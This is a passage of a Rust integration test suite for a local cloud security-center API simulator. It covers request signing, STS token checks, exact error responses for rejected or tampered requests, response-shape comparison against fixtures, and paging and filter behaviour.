//! The simulator over real sockets: requests signed with `sasrelay::sas::sign` (V3 and V1) and
//! sent with reqwest; every rejection path with its exact error body; paging and filters in every
//! domain; injected faults; the control interface; and response shapes compared key by key with
//! the contract samples (`tests/fixtures/samples`).

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::time::{Duration, Instant};

use reqwest::header::HeaderMap;
use sasrelay::credentials::SigningKey;
use sasrelay::sas::params::Params;
use sasrelay::sas::sign::{self, SignatureVersion, SigningContext, UnsignedRequest};
use sasrelay::simulator::{
    Domain, FaultKind, FaultSpec, SimConfig, SimCredential, SimHandle, Simulator,
};
use serde_json::{Value, json};
use time::OffsetDateTime;
use time::macros::format_description;

// ------------------------------------------------------------------------------------ helpers

pub(super) const AK: &str = "sasrelay-sim";
pub(super) const SECRET: &str = "sasrelay-sim-secret";

fn iso(t: OffsetDateTime) -> String {
    t.format(format_description!(
        "[year]-[month]-[day]T[hour]:[minute]:[second]Z"
    ))
    .unwrap()
}

fn wall(ms: i64) -> String {
    OffsetDateTime::from_unix_timestamp(ms / 1000)
        .unwrap()
        .format(format_description!(
            "[year]-[month]-[day] [hour]:[minute]:[second]"
        ))
        .unwrap()
}

fn now_ms() -> i64 {
    (OffsetDateTime::now_utc().unix_timestamp_nanos() / 1_000_000) as i64
}

#[derive(Debug)]
pub(super) struct Resp {
    pub(super) status: u16,
    pub(super) headers: HeaderMap,
    pub(super) text: String,
    pub(super) json: Value,
}

impl Resp {
    pub(super) fn code(&self) -> &str {
        self.json["Code"].as_str().unwrap_or("")
    }
}

#[derive(Clone)]
pub(super) struct Api {
    http: reqwest::Client,
    base: String,
    host: String,
    ak: String,
    secret: String,
    token: Option<String>,
    version: SignatureVersion,
}

struct Signed {
    method: &'static str,
    req: sign::SignedRequest,
}

impl Api {
    pub(super) fn new(sim: &SimHandle, version: SignatureVersion) -> Api {
        Api {
            http: reqwest::Client::builder()
                .timeout(Duration::from_secs(20))
                .build()
                .unwrap(),
            base: sim.base_url(),
            host: sim.endpoint(),
            ak: AK.into(),
            secret: SECRET.into(),
            token: None,
            version,
        }
    }

    pub(super) fn key(mut self, ak: &str, secret: &str, token: Option<&str>) -> Api {
        self.ak = ak.into();
        self.secret = secret.into();
        self.token = token.map(str::to_string);
        self
    }

    fn sign_at(
        &self,
        method: &'static str,
        action: &str,
        query: &[(&str, &str)],
        form: Option<&[(&str, &str)]>,
        timestamp: String,
    ) -> Signed {
        let q: Params = query.iter().map(|(k, v)| (*k, *v)).collect();
        let f: Option<Params> = form.map(|f| f.iter().map(|(k, v)| (*k, *v)).collect());
        let req = sign::sign(
            self.version,
            &UnsignedRequest {
                method,
                host: &self.host,
                action,
                query: &q,
                form: f.as_ref(),
            },
            &SigningContext {
                timestamp,
                nonce: uuid::Uuid::new_v4().simple().to_string(),
                user_agent: Some("sasrelay-test".into()),
                credentials_provider: None,
            },
            &SigningKey {
                access_key_id: &self.ak,
                access_key_secret: &self.secret,
                security_token: self.token.as_deref(),
            },
        );
        Signed { method, req }
    }

    fn sign(&self, action: &str, query: &[(&str, &str)]) -> Signed {
        self.sign_at("POST", action, query, None, iso(OffsetDateTime::now_utc()))
    }

    async fn send(&self, s: &Signed) -> Resp {
        let url = format!("{}/?{}", self.base, s.req.query);
        let mut rb = match s.method {
            "GET" => self.http.get(&url),
            _ => self.http.post(&url),
        };
        for (n, v) in &s.req.headers {
            // reqwest derives Host from the URL: the same `127.0.0.1:PORT` that was signed.
            if !n.eq_ignore_ascii_case("host") {
                rb = rb.header(n, v);
            }
        }
        let resp = rb.body(s.req.body.clone()).send().await.unwrap();
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        let text = resp.text().await.unwrap();
        let json = serde_json::from_str(&text).unwrap_or(Value::Null);
        Resp {
            status,
            headers,
            text,
            json,
        }
    }

    pub(super) async fn call(&self, action: &str, query: &[(&str, &str)]) -> Resp {
        self.send(&self.sign(action, query)).await
    }

    /// Calls and insists on HTTP 200.
    pub(super) async fn ok(&self, action: &str, query: &[(&str, &str)]) -> Value {
        let r = self.call(action, query).await;
        assert_eq!(r.status, 200, "{action} {query:?}: {}", r.text);
        r.json
    }
}

/// A control endpoint's JSON answer.
pub(super) async fn get_json(http: &reqwest::Client, url: &str) -> Value {
    http.get(url).send().await.unwrap().json().await.unwrap()
}

pub(super) async fn start() -> SimHandle {
    Simulator::start(SimConfig::default()).await.unwrap()
}

pub(super) fn fixture(name: &str) -> Value {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/samples")
        .join(name);
    serde_json::from_str(&std::fs::read_to_string(&p).unwrap()).unwrap()
}

fn error_status_index() -> BTreeMap<String, u16> {
    fixture("errors/index.json")
        .as_array()
        .unwrap()
        .iter()
        .map(|e| {
            (
                e["code"].as_str().unwrap().to_string(),
                e["http_status"].as_u64().unwrap() as u16,
            )
        })
        .collect()
}

/// Asserts an error response: status, code, and the exact key set and format of the samples.
pub(super) fn assert_error(r: &Resp, status: u16, code: &str, host: &str) {
    assert_eq!(r.status, status, "{code}: {}", r.text);
    assert_eq!(r.code(), code, "{}", r.text);
    let keys: Vec<&str> = r
        .json
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        ["RequestId", "HostId", "Code", "Message", "Recommend"],
        "{}",
        r.text
    );
    let rid = r.json["RequestId"].as_str().unwrap();
    assert_eq!(rid.len(), 36, "UUID-like request id: {rid}");
    assert_eq!(r.headers["x-acs-request-id"], rid);
    assert_eq!(r.json["HostId"], host);
    assert_eq!(
        r.json["Recommend"],
        format!("https://api.aliyun.com/troubleshoot?q={code}&product=Sas&requestId={rid}")
    );
    assert!(!r.json["Message"].as_str().unwrap().is_empty());
    if let Some(expected) = error_status_index().get(code) {
        assert_eq!(status, *expected, "status of {code} per errors/index.json");
    }
}

/// Merges the items of a sample array into one prototype (empty nested arrays filled from later
/// items), so every nested shape the samples show is compared.
fn prototype(items: &[Value]) -> Option<Value> {
    let mut proto = items.first()?.clone();
    for it in &items[1..] {
        if let (Value::Object(p), Value::Object(o)) = (&mut proto, it) {
            for (k, v) in o {
                if p.get(k)
                    .and_then(Value::as_array)
                    .is_some_and(Vec::is_empty)
                    && v.as_array().is_some_and(|a| !a.is_empty())
                {
                    p.insert(k.clone(), v.clone());
                }
            }
        }
    }
    Some(proto)
}

/// Compares key sets recursively and JSON value kinds; returns every difference.
pub(super) fn shape_diff(sample: &Value, got: &Value, path: &str, out: &mut Vec<String>) {
    match (sample, got) {
        (Value::Object(s), Value::Object(g)) => {
            let sk: BTreeSet<&String> = s.keys().collect();
            let gk: BTreeSet<&String> = g.keys().collect();
            for k in sk.difference(&gk) {
                out.push(format!("{path}.{k}: missing"));
            }
            for k in gk.difference(&sk) {
                out.push(format!("{path}.{k}: not in the sample"));
            }
            for k in sk.intersection(&gk) {
                shape_diff(&s[*k], &g[*k], &format!("{path}.{k}"), out);
            }
        }
        (Value::Array(s), Value::Array(g)) => {
            if let Some(p) = prototype(s) {
                for item in g {
                    shape_diff(&p, item, &format!("{path}[]"), out);
                }
            }
        }
        (s, g) => {
            let kind = |v: &Value| match v {
                Value::Null => "null",
                Value::Bool(_) => "bool",
                Value::Number(_) => "number",
                Value::String(_) => "string",
                Value::Array(_) => "array",
                Value::Object(_) => "object",
            };
            if kind(s) != kind(g) {
                out.push(format!(
                    "{path}: {} in the sample, {} here",
                    kind(s),
                    kind(g)
                ));
            }
        }
    }
}

pub(super) fn items<'a>(v: &'a Value, key: &str) -> &'a Vec<Value> {
    v[key]
        .as_array()
        .unwrap_or_else(|| panic!("{key} missing in {v}"))
}

fn ids(v: &Value, key: &str, id: &str) -> Vec<i64> {
    items(v, key)
        .iter()
        .map(|r| r[id].as_i64().unwrap())
        .collect()
}

pub(super) fn cluster(sim: &SimHandle, i: usize) -> String {
    sim.clusters()[i].cluster_id.clone()
}

// ------------------------------------------------------------------------------- signatures

#[tokio::test]
async fn v3_and_v1_signed_requests_are_accepted() {
    let sim = start().await;
    let c = cluster(&sim, 0);
    for version in [SignatureVersion::V3, SignatureVersion::V1] {
        let api = Api::new(&sim, version);
        let body = api
            .ok(
                "GetClusterSuspEventStatistics",
                &[("ClusterId", &c), ("From", "sas")],
            )
            .await;
        assert!(body["SuspStatistics"]["Serious"].is_i64(), "{body}");
        // GET is accepted too (the signature covers the method).
        let s = api.sign_at(
            "GET",
            "DescribeSuspEvents",
            &[("ClusterId", &c), ("PageSize", "3")],
            None,
            iso(OffsetDateTime::now_utc()),
        );
        let r = api.send(&s).await;
        assert_eq!(r.status, 200, "{version:?} GET: {}", r.text);
        assert_eq!(r.json["PageSize"], 3);
        // A form body (DescribeSuspEvents' TacticId) with spaces, `+`, `*`, `~` and non-ASCII,
        // and a query value that needs encoding: both are signed and decoded.
        let s = api.sign_at(
            "POST",
            "DescribeSuspEvents",
            &[("Remark", "no such host + * ~ 集"), ("Levels", "serious")],
            Some(&[("TacticId", "TA0002 x+y*~集")]),
            iso(OffsetDateTime::now_utc()),
        );
        assert!(
            s.req.body.contains('+'),
            "space travels as +: {}",
            s.req.body
        );
        let r = api.send(&s).await;
        assert_eq!(r.status, 200, "{version:?} form: {}", r.text);
        assert_eq!(r.json["TotalCount"], 0, "Remark matched nothing");
    }
    assert_eq!(sim.call_count("GetClusterSuspEventStatistics"), 2);
    assert_eq!(sim.call_count("DescribeSuspEvents"), 4);
}

#[tokio::test]
async fn sts_tokens_are_required_signed_and_expire() {
    let sim = start().await;
    let host = sim.endpoint();
    let hour = 3_600_000;
    sim.add_credential(SimCredential::sts(
        "STS.ok",
        "sts-secret",
        "CAIS+token/==",
        Some(now_ms() + hour),
    ))
    .unwrap();
    sim.add_credential(SimCredential::sts(
        "STS.old",
        "sts-secret",
        "CAIS-old",
        Some(now_ms() - 1),
    ))
    .unwrap();
    for version in [SignatureVersion::V3, SignatureVersion::V1] {
        let good = Api::new(&sim, version).key("STS.ok", "sts-secret", Some("CAIS+token/=="));
        good.ok("GetInterceptionSummary", &[]).await;
        let missing = Api::new(&sim, version).key("STS.ok", "sts-secret", None);
        assert_error(
            &missing.call("GetInterceptionSummary", &[]).await,
            400,
            "InvalidSecurityToken.MismatchWithAccessKey",
            &host,
        );
        let wrong = Api::new(&sim, version).key("STS.ok", "sts-secret", Some("CAIS-other"));
        assert_error(
            &wrong.call("GetInterceptionSummary", &[]).await,
            400,
            "InvalidSecurityToken.MismatchWithAccessKey",
            &host,
        );
        let expired = Api::new(&sim, version).key("STS.old", "sts-secret", Some("CAIS-old"));
        assert_error(
            &expired.call("GetInterceptionSummary", &[]).await,
            400,
            "InvalidSecurityToken.Expired",
            &host,
        );
    }
    // Under V3 the token header must be signed: strip it from SignedHeaders and re-sign by hand.
    let api =
        Api::new(&sim, SignatureVersion::V3).key("STS.ok", "sts-secret", Some("CAIS+token/=="));
    let mut s = api.sign("GetInterceptionSummary", &[]);
    let auth = s
        .req
        .headers
        .iter_mut()
        .find(|(n, _)| n == "Authorization")
        .unwrap();
    auth.1 = auth.1.replace(";x-acs-security-token", "");
    assert_error(&api.send(&s).await, 400, "IncompleteSignature", &host);
}

#[tokio::test]
async fn every_rejection_path_has_the_exact_error_body() {
    let sim = start().await;
    let host = sim.endpoint();
    for version in [SignatureVersion::V3, SignatureVersion::V1] {
        let api = Api::new(&sim, version);
        let stranger = api.clone().key("nobody", SECRET, None);
        assert_error(
            &stranger.call("DescribeSuspEvents", &[]).await,
            404,
            "InvalidAccessKeyId.NotFound",
            &host,
        );
        let wrong = api.clone().key(AK, "not-the-secret", None);
        let r = wrong.call("DescribeSuspEvents", &[]).await;
        assert_error(&r, 400, "SignatureDoesNotMatch", &host);
        let msg = r.json["Message"].as_str().unwrap();
        let (_, sts) = msg.split_once("server string to sign is:").unwrap();
        if version == SignatureVersion::V1 {
            // The classic SDK compares this with its own string to sign.
            assert!(
                sts.starts_with(
                    "POST&%2F&AccessKeyId%3Dsasrelay-sim%26Action%3DDescribeSuspEvents"
                ),
                "{msg}"
            );
        } else {
            assert!(sts.starts_with("ACS3-HMAC-SHA256\n"), "{msg}");
        }
        let old = api.sign_at(
            "POST",
            "DescribeSuspEvents",
            &[],
            None,
            iso(OffsetDateTime::now_utc() - Duration::from_secs(16 * 60)),
        );
        assert_error(
            &api.send(&old).await,
            400,
            "InvalidTimeStamp.Expired",
            &host,
        );
        let future = api.sign_at(
            "POST",
            "DescribeSuspEvents",
            &[],
            None,
            iso(OffsetDateTime::now_utc() + Duration::from_secs(16 * 60)),
        );
        assert_error(
            &api.send(&future).await,
            400,
            "InvalidTimeStamp.Expired",
            &host,
        );
        // The same signed request twice: the nonce is single-use.
        let once = api.sign("GetInterceptionSummary", &[]);
        assert_eq!(api.send(&once).await.status, 200);
        assert_error(&api.send(&once).await, 400, "SignatureNonceUsed", &host);
        assert_error(
            &api.call("DescribeNothing", &[]).await,
            404,
            "InvalidAction.NotFound",
            &host,
        );
        let r = api.call("DescribeVulList", &[("ClusterId", "c1")]).await;
        assert_error(&r, 400, "MissingParameter", &host);
        assert!(
            r.json["Message"].as_str().unwrap().contains("\"Type\""),
            "{}",
            r.text
        );
        let r = api.call("DescribeWarningMachines", &[]).await;
        assert_error(&r, 400, "MissingParameter", &host);
        assert!(r.json["Message"].as_str().unwrap().contains("\"RiskId\""));
        let r = api
            .call("DescribeCheckWarnings", &[("RiskId", "120")])
            .await;
        assert_error(&r, 400, "MissingParameter", &host);
        assert!(r.json["Message"].as_str().unwrap().contains("\"Uuid\""));
        assert_error(
            &api.call("DescribeCheckWarningDetail", &[]).await,
            400,
            "MissingParameter",
            &host,
        );
        assert_error(
            &api.call("DescribeSuspEvents", &[("PageSize", "101")]).await,
            400,
            "InvalidParameter",
            &host,
        );
        assert_error(
            &api.call("DescribeSuspEvents", &[("TimeStart", "yesterday")])
                .await,
            400,
            "InvalidParameter",
            &host,
        );
        assert_error(
            &api.call("DescribeVulList", &[("Type", "cve"), ("Dealed", "N")])
                .await,
            400,
            "InvalidParameter",
            &host,
        );
        // The permission toggle.
        assert!(sim.set_permission_denied(AK, true));
        assert_error(
            &api.call("DescribeSuspEvents", &[]).await,
            403,
            "Forbidden.RAM",
            &host,
        );
        assert!(sim.set_permission_denied(AK, false));
        api.ok("DescribeSuspEvents", &[]).await;
    }
    // Per-action denial and disabled keys.
    let mut limited = SimCredential::new("limited", "limited-secret");
    limited.denied_actions = vec!["DescribeVulList".into()];
    sim.add_credential(limited).unwrap();
    let mut off = SimCredential::new("off", "off-secret");
    off.disabled = true;
    sim.add_credential(off).unwrap();
    let api = Api::new(&sim, SignatureVersion::V3).key("limited", "limited-secret", None);
    api.ok("DescribeSuspEvents", &[]).await;
    assert_error(
        &api.call("DescribeVulList", &[("Type", "cve")]).await,
        403,
        "Forbidden.RAM",
        &host,
    );
    let api = Api::new(&sim, SignatureVersion::V1).key("off", "off-secret", None);
    assert_error(
        &api.call("DescribeSuspEvents", &[]).await,
        400,
        "InvalidAccessKeyId.Inactive",
        &host,
    );
    assert!(sim.remove_credential("limited"));
    let api = Api::new(&sim, SignatureVersion::V3).key("limited", "limited-secret", None);
    assert_error(
        &api.call("DescribeSuspEvents", &[]).await,
        404,
        "InvalidAccessKeyId.NotFound",
        &host,
    );
}

#[tokio::test]
async fn malformed_and_tampered_v3_requests_are_rejected() {
    let sim = start().await;
    let host = sim.endpoint();
    let api = Api::new(&sim, SignatureVersion::V3);
    let http = reqwest::Client::new();
    // Not an ACS3 Authorization header at all.
    let mut s = api.sign("DescribeSuspEvents", &[]);
    for (n, v) in s.req.headers.iter_mut() {
        if n == "Authorization" {
            *v = "Bearer abc".into();
        }
    }
    assert_error(&api.send(&s).await, 400, "IncompleteSignature", &host);
    // SignedHeaders without x-acs-action would let a proxy change the action.
    let mut s = api.sign("DescribeSuspEvents", &[]);
    for (n, v) in s.req.headers.iter_mut() {
        if n == "Authorization" {
            *v = v.replace("x-acs-action;", "");
        }
    }
    assert_error(&api.send(&s).await, 400, "IncompleteSignature", &host);
    // A tampered form body no longer matches the signed payload hash.
    let mut s = api.sign_at(
        "POST",
        "DescribeSuspEvents",
        &[],
        Some(&[("TacticId", "TA0002")]),
        iso(OffsetDateTime::now_utc()),
    );
    s.req.body = "TacticId=TA0040".into();
    assert_error(&api.send(&s).await, 400, "SignatureDoesNotMatch", &host);
    // A tampered query value.
    let mut s = api.sign("DescribeSuspEvents", &[("Levels", "remind")]);
    s.req.query = s.req.query.replace("remind", "serious");
    assert_error(&api.send(&s).await, 400, "SignatureDoesNotMatch", &host);
    // Headers an HTTP stack adds after signing do not matter (only SignedHeaders are used).
    let s = api.sign("GetInterceptionSummary", &[]);
    let mut rb = http.post(format!("{}/?{}", sim.base_url(), s.req.query));
    for (n, v) in &s.req.headers {
        if n != "host" {
            rb = rb.header(n, v);
        }
    }
    let r = rb
        .header("accept-encoding", "gzip, br")
        .header("x-forwarded-for", "10.0.0.1")
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 200);
    // V1 without a signature at all, and with an unsupported method.
    let r = http
        .post(format!(
            "{}/?Action=DescribeSuspEvents&Version=2018-12-03",
            sim.base_url()
        ))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 400);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["Code"], "MissingParameter");
    let v1 = Api::new(&sim, SignatureVersion::V1);
    let mut s = v1.sign("DescribeSuspEvents", &[]);
    s.req.query = s.req.query.replace("HMAC-SHA1", "HMAC-MD5");
    assert_error(&v1.send(&s).await, 400, "IncompleteSignature", &host);
    // Another API version is another API (the signature itself is valid).
    let other = v1.sign("DescribeSuspEvents", &[("Version", "2017-01-01")]);
    assert!(other.req.query.contains("Version=2017-01-01"));
    assert_error(&v1.send(&other).await, 404, "InvalidAction.NotFound", &host);
    let r = http
        .post(format!("{}/nowhere", sim.base_url()))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 404);
}

// ---------------------------------------------------------------------------------- shapes

#[tokio::test]
async fn generated_bodies_have_exactly_the_sample_key_sets() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V3);
    let c = cluster(&sim, 0);
    let summary = api
        .ok("DescribeCheckWarningSummary", &[("ClusterId", &c)])
        .await;
    let risk = items(&summary, "WarningSummarys")[0]["RiskId"].to_string();
    let machines = api
        .ok(
            "DescribeWarningMachines",
            &[("RiskId", &risk), ("ClusterId", &c)],
        )
        .await;
    let uuid = items(&machines, "WarningMachines")[0]["Uuid"]
        .as_str()
        .unwrap()
        .to_string();
    let warnings = api
        .ok(
            "DescribeCheckWarnings",
            &[("RiskId", &risk), ("Uuid", &uuid)],
        )
        .await;
    let far_future = (now_ms() + 86_400_000).to_string();
    let cases: Vec<(&str, Value)> = vec![
        (
            "DescribeSuspEvents",
            api.ok("DescribeSuspEvents", &[("PageSize", "100")]).await,
        ),
        (
            "GetClusterSuspEventStatistics",
            api.ok("GetClusterSuspEventStatistics", &[("ClusterId", &c)])
                .await,
        ),
        (
            "DescribeVulList",
            api.ok(
                "DescribeVulList",
                &[("Type", "cve"), ("AttachTypes", "sca"), ("PageSize", "100")],
            )
            .await,
        ),
        (
            "DescribeClusterVulStatistics",
            api.ok("DescribeClusterVulStatistics", &[("ClusterId", &c)])
                .await,
        ),
        ("DescribeCheckWarningSummary", summary.clone()),
        ("DescribeWarningMachines", machines.clone()),
        ("DescribeCheckWarnings", warnings.clone()),
        (
            "GetClusterCheckItemWarningStatistics",
            api.ok("GetClusterCheckItemWarningStatistics", &[("ClusterId", &c)])
                .await,
        ),
        (
            "ListInterceptionHistory",
            api.ok(
                "ListInterceptionHistory",
                &[
                    ("StartTime", "0"),
                    ("EndTime", &far_future),
                    ("PageSize", "100"),
                ],
            )
            .await,
        ),
        (
            "GetInterceptionSummary",
            api.ok("GetInterceptionSummary", &[]).await,
        ),
        (
            "ListClusterInterceptionConfig",
            api.ok("ListClusterInterceptionConfig", &[]).await,
        ),
    ];
    let mut diffs = Vec::new();
    for (action, body) in &cases {
        let sample = fixture(&format!("{action}.json"));
        shape_diff(&sample, body, action, &mut diffs);
        // Lists must have items, or their shape was not compared.
        for (k, v) in sample.as_object().unwrap() {
            if v.as_array().is_some_and(|a| !a.is_empty()) {
                assert!(
                    body[k].as_array().is_some_and(|a| !a.is_empty()),
                    "{action}.{k} is empty"
                );
            }
        }
    }
    assert!(diffs.is_empty(), "shape differences:\n{}", diffs.join("\n"));
    // The sample's odd spellings are kept.
    assert!(cases[0].1["SuspEvents"][0]["clusterId"].is_string());
    assert!(cases[2].1["VulRecords"][0]["ExtendContentJson"]["cveList"].is_array());
    assert!(
        cases[2].1["VulRecords"][0]["ExtendContentJson"]["Necessity"]["Enviroment_factor"]
            .is_string()
    );
    assert!(cases[10].1["PageInfo"]["CurrrentPage"].is_i64());
    assert!(cases[3].1["VulStat"]["AsapCount"].is_string());
    // No sample exists for the detail: docs/sas-api.md §3.4 and the SDK model give the keys.
    let w = &items(&warnings, "CheckWarnings")[0];
    let detail = api
        .ok(
            "DescribeCheckWarningDetail",
            &[("CheckWarningId", &w["CheckWarningId"].to_string())],
        )
        .await;
    let keys: BTreeSet<&str> = detail
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(
        keys,
        BTreeSet::from([
            "RequestId",
            "Advice",
            "CheckDetailAssetInfo",
            "CheckDetailColumns",
            "CheckId",
            "Description",
            "Item",
            "Level",
            "Prompt",
            "Type"
        ])
    );
    assert_eq!(detail["CheckId"], w["CheckId"]);
    let col = &detail["CheckDetailColumns"][1];
    assert_eq!(col["Type"], "grid");
    let grid_keys: BTreeSet<&str> = col["Grids"][0]
        .as_object()
        .unwrap()
        .keys()
        .map(String::as_str)
        .collect();
    assert_eq!(grid_keys, BTreeSet::from(["Key", "ShowName", "Type"]));
    assert!(
        detail["CheckDetailAssetInfo"][0]
            .as_object()
            .unwrap()
            .values()
            .all(Value::is_string)
    );
    let by_pair = api
        .ok(
            "DescribeCheckWarningDetail",
            &[
                ("Uuid", w["Uuid"].as_str().unwrap()),
                ("CheckId", &w["CheckId"].to_string()),
            ],
        )
        .await;
    assert_eq!(by_pair["Item"], detail["Item"]);
    // Request ids are fresh UUID-like strings.
    let a = api.ok("GetInterceptionSummary", &[]).await;
    let b = api.ok("GetInterceptionSummary", &[]).await;
    assert_ne!(a["RequestId"], b["RequestId"]);
    assert_eq!(a["RequestId"].as_str().unwrap().len(), 36);
}

// ---------------------------------------------------------------------------------- paging

/// Walks every page of a Describe* listing; checks Count/CurrentPage/PageSize/TotalCount.
async fn walk_describe(
    api: &Api,
    action: &str,
    list: &str,
    id: &str,
    extra: &[(&str, &str)],
    size: usize,
) -> Vec<i64> {
    let mut all = Vec::new();
    let mut page = 1;
    let size_s = size.to_string();
    loop {
        let page_s = page.to_string();
        let mut q: Vec<(&str, &str)> = extra.to_vec();
        q.push(("CurrentPage", &page_s));
        q.push(("PageSize", &size_s));
        let body = api.ok(action, &q).await;
        let got = ids(&body, list, id);
        if let Some(count) = body.get("Count") {
            assert_eq!(count, got.len(), "{action} Count");
        }
        assert_eq!(body["CurrentPage"], page);
        assert_eq!(body["PageSize"], size);
        let total = body["TotalCount"].as_u64().unwrap() as usize;
        assert!(got.len() <= size);
        all.extend(got);
        if page * size >= total {
            assert_eq!(all.len(), total, "{action}: every item once");
            break;
        }
        page += 1;
        assert!(page < 1000);
    }
    let unique: BTreeSet<i64> = all.iter().copied().collect();
    assert_eq!(
        unique.len(),
        all.len(),
        "{action}: no duplicates across pages"
    );
    all
}

/// Walks every page of a List* listing (`PageInfo`).
async fn walk_list(
    api: &Api,
    action: &str,
    list: &str,
    id: &str,
    page_key: &str,
    extra: &[(&str, &str)],
    size: usize,
) -> Vec<Value> {
    let mut all = Vec::new();
    let mut page = 1;
    let size_s = size.to_string();
    loop {
        let page_s = page.to_string();
        let mut q: Vec<(&str, &str)> = extra.to_vec();
        q.push(("CurrentPage", &page_s));
        q.push(("PageSize", &size_s));
        let body = api.ok(action, &q).await;
        let info = &body["PageInfo"];
        let got = items(&body, list).clone();
        assert_eq!(info["Count"], got.len());
        assert_eq!(info[page_key], page, "{action} {page_key}");
        assert_eq!(info["PageSize"], size);
        let total = info["TotalCount"].as_u64().unwrap() as usize;
        all.extend(got);
        if page * size >= total {
            assert_eq!(all.len(), total);
            break;
        }
        page += 1;
        assert!(page < 1000);
    }
    let unique: BTreeSet<String> = all.iter().map(|v| v[id].to_string()).collect();
    assert_eq!(
        unique.len(),
        all.len(),
        "{action}: no duplicates across pages"
    );
    all
}

#[tokio::test]
async fn paging_works_in_every_domain() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V1);
    let c = cluster(&sim, 0);
    // Alerts: several pages, newest first, default page size 20.
    let alerts = walk_describe(&api, "DescribeSuspEvents", "SuspEvents", "Id", &[], 7).await;
    assert_eq!(alerts.len(), sim.findings(Domain::Alert).len());
    let first = api.ok("DescribeSuspEvents", &[]).await;
    assert_eq!(first["PageSize"], 20);
    let times: Vec<i64> = items(&first, "SuspEvents")
        .iter()
        .map(|r| r["LastTimeStamp"].as_i64().unwrap())
        .collect();
    assert!(times.windows(2).all(|w| w[0] >= w[1]), "newest first");
    // Vulnerabilities: page numbers (default 10) and tokens give the same records.
    let vulns = walk_describe(
        &api,
        "DescribeVulList",
        "VulRecords",
        "PrimaryId",
        &[("Type", "cve"), ("AttachTypes", "sca")],
        4,
    )
    .await;
    assert!(vulns.len() > 8, "several pages: {}", vulns.len());
    assert_eq!(
        api.ok("DescribeVulList", &[("Type", "cve")]).await["PageSize"],
        10
    );
    let mut by_token = Vec::new();
    let mut token = String::new();
    let mut pages = 0;
    loop {
        let mut q = vec![
            ("Type", "cve"),
            ("AttachTypes", "sca"),
            ("UseNextToken", "true"),
            ("PageSize", "4"),
        ];
        if !token.is_empty() {
            q.push(("NextToken", &token));
        }
        let body = api.ok("DescribeVulList", &q).await;
        assert!(
            body.get("TotalCount").is_none(),
            "no TotalCount with tokens"
        );
        by_token.extend(ids(&body, "VulRecords", "PrimaryId"));
        token = body["NextToken"].as_str().unwrap().to_string();
        pages += 1;
        if token.is_empty() {
            break;
        }
        assert!(pages < 100);
    }
    assert!(pages > 2);
    assert_eq!(by_token, vulns, "token paging = page-number paging");
    let r = api
        .call(
            "DescribeVulList",
            &[
                ("Type", "cve"),
                ("UseNextToken", "true"),
                ("NextToken", "garbage"),
            ],
        )
        .await;
    assert_eq!(r.code(), "InvalidParameter");
    // Baseline: summary, machines and items, one per page.
    let risks = walk_describe(
        &api,
        "DescribeCheckWarningSummary",
        "WarningSummarys",
        "RiskId",
        &[],
        1,
    )
    .await;
    assert!(risks.len() >= 2);
    let risk = risks[0].to_string();
    let summary_all = api.ok("DescribeCheckWarningSummary", &[]).await;
    let machine_count = items(&summary_all, "WarningSummarys")[0]["WarningMachineCount"]
        .as_u64()
        .unwrap() as usize;
    let body = api
        .ok(
            "DescribeWarningMachines",
            &[("RiskId", &risk), ("PageSize", "100")],
        )
        .await;
    assert_eq!(items(&body, "WarningMachines").len(), machine_count);
    let mut machines = Vec::new();
    for page in 1..=machine_count {
        let p = page.to_string();
        let body = api
            .ok(
                "DescribeWarningMachines",
                &[("RiskId", &risk), ("CurrentPage", &p), ("PageSize", "1")],
            )
            .await;
        assert_eq!(body["TotalCount"], machine_count);
        machines.push(
            items(&body, "WarningMachines")[0]["Uuid"]
                .as_str()
                .unwrap()
                .to_string(),
        );
    }
    let distinct: BTreeSet<&String> = machines.iter().collect();
    assert_eq!(distinct.len(), machine_count);
    // A machine with several items of one risk (add two to be sure).
    let node = sim.clusters()[0].nodes[0].uuid.clone();
    for check in [3201, 3207, 3215] {
        sim.add_finding(
            Domain::Baseline,
            Some(&c),
            json!({"RiskId": 120, "CheckId": check, "Uuid": node}),
        )
        .unwrap();
    }
    let checks = walk_describe(
        &api,
        "DescribeCheckWarnings",
        "CheckWarnings",
        "CheckWarningId",
        &[("RiskId", "120"), ("Uuid", &node)],
        1,
    )
    .await;
    assert!(checks.len() >= 3);
    // Firewall: PageInfo paging over the records and over the clusters (CurrrentPage).
    let end = (now_ms() + 60_000).to_string();
    let fw = walk_list(
        &api,
        "ListInterceptionHistory",
        "InterceptionHistoryList",
        "Id",
        "CurrentPage",
        &[("StartTime", "0"), ("EndTime", &end)],
        5,
    )
    .await;
    assert_eq!(fw.len(), sim.findings(Domain::Firewall).len());
    let clusters = walk_list(
        &api,
        "ListClusterInterceptionConfig",
        "ClusterConfigList",
        "ClusterId",
        "CurrrentPage",
        &[],
        1,
    )
    .await;
    assert_eq!(clusters.len(), 2);
    // Past the end: an empty page, not an error.
    let body = api.ok("DescribeSuspEvents", &[("CurrentPage", "99")]).await;
    assert_eq!(body["Count"], 0);
    assert!(items(&body, "SuspEvents").is_empty());
}

// --------------------------------------------------------------------------------- filters

#[tokio::test]
async fn alert_filters() {
    let sim = start().await;
    let api = Api::new(&sim, SignatureVersion::V3);
    let c0 = cluster(&sim, 0);
    let all = sim.findings(Domain::Alert);
    let count = |f: &dyn Fn(&Value) -> bool| all.iter().filter(|a| f(a)).count();
    let total = |v: &Value| v["TotalCount"].as_u64().unwrap() as usize;
    let pending = api
        .ok(
            "DescribeSuspEvents",
            &[("Dealed", "N"), ("PageSize", "100")],
        )
        .await;
    assert_eq!(total(&pending), count(&|a| a["EventStatus"] == 1));
    assert!(
        items(&pending, "SuspEvents")
            .iter()
            .all(|a| a["EventStatus"] == 1)
    );
    let handled = api
        .ok(
            "DescribeSuspEvents",
            &[("Dealed", "Y"), ("PageSize", "100")],
        )
        .await;
    assert_eq!(total(&handled), count(&|a| a["EventStatus"] != 1));
